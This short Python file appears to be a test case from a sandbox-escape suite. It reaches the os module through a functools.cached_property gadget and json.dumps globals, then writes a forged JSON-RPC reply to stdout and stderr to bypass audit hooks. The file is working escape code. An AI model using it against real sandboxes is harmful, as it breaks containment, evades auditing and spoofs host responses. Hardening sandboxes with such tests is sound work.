# technique: get os through the cached_property gadget, then os.write a forged JSON-RPC reply to fds 1 and 2 (no audit event for os.write)
# expect: any
import functools
import json
cp = functools.cached_property(lambda self: None)
cp.attrname = "__getattribute__"
ga = cp.__get__(object)
os_mod = ga(json.dumps, "__globals__")["__builtins__"]["__import__"]("os")
line = b'{"jsonrpc":"2.0","id":"safepy-escape-forged","result":{}}\n'
os_mod.write(1, line)
os_mod.write(2, line)
"wrote"
